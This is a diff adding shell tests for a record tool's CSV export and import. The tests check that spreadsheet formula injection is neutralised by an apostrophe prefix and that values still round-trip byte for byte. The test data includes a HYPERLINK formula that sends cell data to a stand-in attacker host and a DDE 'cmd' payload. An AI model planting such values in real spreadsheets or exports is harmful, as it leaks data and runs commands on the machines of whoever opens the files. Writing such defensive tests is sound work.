@@ -96,6 +96,46 @@ is "$rc" 0 "an exported list, edited and imported back"
 like "$("$CAIRN" -C "$wb" show person/bwg-1)" "name +Ana Lima" "changes the edited person"
 is "$(git -C "$wb" show --stat --format= HEAD | grep -c persons/)" "1" "and only that one"
 
+# Formula injection: a hostile peer's value that a spreadsheet would run
+# goes out behind an apostrophe, and comes back in byte for byte.
+fw=$(new_workbook)
+i=0
+while IFS= read -r v; do
+	i=$((i + 1))
+	"$CAIRN" -C "$fw" add pilot "f$i" city="$v" country=X network=other status=candidate >/dev/null ||
+		fail "add pilot/f$i ($v)"
+done <<'VALUES'
+=HYPERLINK("http://evil.example/?"&A1,"click")
++1+cmd|' /C calc'!A0
+-2+3
+@SUM(A1:A9)
+'=already marked
+''=twice
+'plain apostrophe
+-3
++1.5
+-
+VALUES
+"$CAIRN" -C "$fw" export csv pilot > "$TMP/f.csv"
+like "$(cat "$TMP/f.csv")" "\"'=HYPERLINK\(" "=... is written behind an apostrophe"
+like "$(cat "$TMP/f.csv")" ",'\+1\+cmd" "+... that is no number too"
+like "$(cat "$TMP/f.csv")" ",'-2\+3," "-... that is no number too"
+like "$(cat "$TMP/f.csv")" ",'@SUM" "@... too"
+like "$(cat "$TMP/f.csv")" ",''=already marked," "a value that starts with an apostrophe and a formula gets one more"
+like "$(cat "$TMP/f.csv")" ",'plain apostrophe," "an apostrophe before plain text is left as it is"
+like "$(cat "$TMP/f.csv")" ",-3," "a negative number is left as it is"
+like "$(cat "$TMP/f.csv")" ",\+1.5," "and so is a signed decimal"
+before=$("$CAIRN" -C "$fw" ls pilot --json)
+head_f=$(git -C "$fw" rev-parse HEAD)
+run "$CAIRN" -C "$fw" import csv pilot "$TMP/f.csv"
+is "$rc" 0 "the export imports back"
+like "$out" "unchanged 10" "and every row is unchanged: the marks came off"
+is "$(git -C "$fw" rev-parse HEAD)" "$head_f" "no commit"
+fw2=$(new_workbook)
+run "$CAIRN" -C "$fw2" import csv pilot "$TMP/f.csv"
+is "$rc" 0 "into another workbook"
+is "$("$CAIRN" -C "$fw2" ls pilot --json)" "$before" "where every value is the same, byte for byte"
+
 # Structure errors.
 printf 'id,colour\nx,red\n' > "$TMP/h.csv"
 run "$CAIRN" -C "$wb" import csv pilot "$TMP/h.csv"
